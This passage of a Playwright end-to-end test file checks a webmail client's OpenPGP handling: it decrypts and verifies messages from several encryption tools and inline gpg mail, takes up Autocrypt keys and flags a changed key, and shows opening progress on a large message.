            (await article.getByRole('heading').first().textContent()) === subject,
            (await article.locator('[data-message-body]').textContent())?.includes(`Grüße from ${tool.tool}`),
            bytes,
          ].join(' ');
          await article.getByRole('button', { name: 'Close message', exact: true }).click();
        }
        expect(seen).toEqual(
          Object.fromEntries(tools.map((t) => [t.tool, 'encrypted valid true true true 0,1,2,250,255'])),
        );
      };

      const box = await readMailbox(cyrus('bob'));
      for (const { tool, raw } of raws)
        await smtpSend(Number(process.env.CYRUS_SMTP_PORT ?? 28025), tool.email, 'bob@example.org', raw);
      const messageIdOf = (raw: string) => /^Message-ID: (<[^>]+>)/im.exec(raw)?.[1] ?? '';
      const arrived = new Map<string, string>();
      await expect
        .poll(
          async () => {
            for (const e of await box.list())
              if (!arrived.has(e.id)) arrived.set(e.id, messageIdOf(headersOf(await box.raw(e))));
            return raws.every(({ raw }) => [...arrived.values()].includes(messageIdOf(raw)));
          },
          { timeout: 30_000 },
        )
        .toBe(true);
      const viaCyrus = raws.map(({ raw }) => [...arrived].find(([, mid]) => mid === messageIdOf(raw))![0]);
      await readAll(viaCyrus);

      // gpg inline: an armored message as the whole text/plain body, through Postfix too.
      const gpgTool = tools.find((t) => t.tool === 'gpg-ed25519')!;
      writeFileSync(join(s.dir, 'inline.txt'), 'Inline grüße, wren-6613.\n');
      const inline = encryptWithAll(
        s,
        [gpgTool],
        { publicFile: join(s.dir, 'bob.pub.asc'), email: 'bob@example.org' },
        join(s.dir, 'inline.txt'),
      )[gpgTool.tool]!;
      const inlineSubject = uniqueSubject('Inline from gpg');
      await smtpSend(
        Number(process.env.CYRUS_SMTP_PORT ?? 28025),
        gpgTool.email,
        'bob@example.org',
        CRLF(
          `From: ${gpgTool.email}\nTo: bob@example.org\nSubject: ${inlineSubject}\nDate: ${new Date().toUTCString()}\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n${inline.trim()}\n`,
        ),
      );
      const inlineArticle = await openMessage(page, (await box.waitFor(inlineSubject)).id);
      await expect(inlineArticle).toHaveAttribute('data-encryption', 'encrypted');
      await expect(inlineArticle).toHaveAttribute('data-signature', 'valid');
      await expect(inlineArticle.locator('[data-message-body]')).toContainText('Inline grüße, wren-6613.');
      await inlineArticle.getByRole('button', { name: 'Close message', exact: true }).click();

      // The same messages through the embedded backend, read by the same keystore.
      await page.getByRole('button', { name: 'Sign out', exact: true }).click();
      await expect(signInPage.submit()).toBeVisible();
      await signInPage.signIn(embedded(baseURL!, 'bob'));
      const viaEmbedded: string[] = [];
      for (const { raw } of raws) viaEmbedded.push(await deliverRaw(embedded(baseURL!, 'bob'), raw));
      await readAll(viaEmbedded);
    } finally {
      s.cleanup();
    }
  });

  test('the Autocrypt key of a gpg user’s mail is offered for replies; a newer key in later mail reads changed', async ({
    page,
    signInPage,
  }) => {
    test.setTimeout(120_000);
    const bob = cyrus('bob');
    await signInPage.signIn(bob);
    const s = scratch();
    try {
      // Hank has no key on WKD or on a key server: only his mail carries it.
      const known: string[] = [];
      const gpgKey = async (uid: string) => {
        s.gpg(['--passphrase', '', '--quick-gen-key', uid, 'future-default', 'default', 'never']);
        const fpr = s
          .gpg(['--with-colons', '--list-keys', 'hank@example.org'])
          .split('\n')
          .filter((l, i, lines) => l.startsWith('fpr:') && lines[i - 1]?.startsWith('pub:'))
          .map((l) => l.split(':')[9]!)
          .find((f) => !known.includes(f))!;
        known.push(fpr);
        return openpgp.readKey({ armoredKey: s.gpg(['--armor', '--export', fpr]) });
      };
      const first = await gpgKey('Hank <hank@example.org>');
      const second = await gpgKey('Hank (new laptop) <hank@example.org>');
      const send = async (key: openpgp.PublicKey, date: Date) => {
        const subject = uniqueSubject('Autocrypt from Hank');
        const keydata = Buffer.from(key.write()).toString('base64').replace(/.{76}/g, '$&\n ');
        await smtpSend(
          Number(process.env.CYRUS_SMTP_PORT ?? 28025),
          'hank@example.org',
          'bob@example.org',
          CRLF(
            `From: Hank <hank@example.org>\nTo: bob@example.org\nSubject: ${subject}\nMessage-ID: <ac-${Date.now()}@example.org>\nDate: ${date.toUTCString()}\nAutocrypt: addr=hank@example.org; prefer-encrypt=mutual; keydata=\n ${keydata}\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\nHello Bob, write to me encrypted.\n`,
          ),
        );
        return (await readMailbox(bob)).waitFor(subject);
      };
      const chip = page.locator('[data-recipient="hank@example.org"]');
      const composeToHank = async () => {
        await page.getByRole('link', { name: 'Compose', exact: true }).click();
        await page.getByLabel('To', { exact: true }).fill('hank@example.org');
        await page.getByLabel('To', { exact: true }).press('Enter');
      };

      // Before his mail is read, nothing is known of Hank's key.
      await composeToHank();
      await expect(chip).toHaveAttribute('data-key-status', /^(none|error)$/);

      const firstMail = await send(first, new Date(Date.now() - 3600_000));
      const article = await openMessage(page, firstMail.id);
      await expect(article.locator('[data-message-body]')).toContainText('write to me encrypted');
      await composeToHank();
      await expect(chip).toHaveAttribute('data-key-status', 'valid');
      await expect(chip).toHaveAttribute('data-key-source', 'autocrypt');
      await expect(chip).toHaveAttribute('data-key-fingerprint', first.getFingerprint().toUpperCase());

      // A later message carries another key: it is not taken silently.
      const secondMail = await send(second, new Date());
      await openMessage(page, secondMail.id);
      await composeToHank();
      await expect(chip).toHaveAttribute('data-key-status', 'changed');
      await expect(chip).toHaveAttribute('data-key-source', 'autocrypt');
      await expect(chip).toHaveAttribute('data-key-fingerprint', second.getFingerprint().toUpperCase());
    } finally {
      s.cleanup();
    }
  });
});

test('a large message says how far its opening got', async ({ page, signInPage, baseURL }) => {
  test.setTimeout(90_000);
  const bob = embedded(baseURL!, 'bob');
  const subject = uniqueSubject('Large to read');
  const attachment = randomBytes(6 * 1024 * 1024)
    .toString('base64')
    .replace(/.{76}/g, '$&\r\n');
  const id = await deliverRaw(
    bob,
    CRLF(
      `From: carol@example.test\nTo: bob@example.test\nSubject: ${subject}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nSee the file.\n--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=big.bin\nContent-Transfer-Encoding: base64\n\n`,
    ) +
      attachment +
      '\r\n--b--\r\n',
  );
  await signInPage.signIn(bob);
  // Downloads at 1 MiB/s: the 8.2 MiB message takes about 8 s.
  await (
    await throttle(page)
  )({ download: 1024 * 1024 });
  const article = await openMessage(page, id);
  const status = article.locator('[data-status-kind="encryption"]');
  const percent = async () =>
    Number(/Opening… (\d+)% of 8\.\d MiB/.exec((await status.textContent()) ?? '')?.[1] ?? -1);
  await expect.poll(percent).toBeGreaterThan(0);
  const first = await percent();
  await expect.poll(percent).toBeGreaterThan(first);
  await expect(article).toHaveAttribute('data-encryption', 'none', { timeout: 30_000 });
  await expect(article.locator('[data-message-body]')).toContainText('See the file.');
});
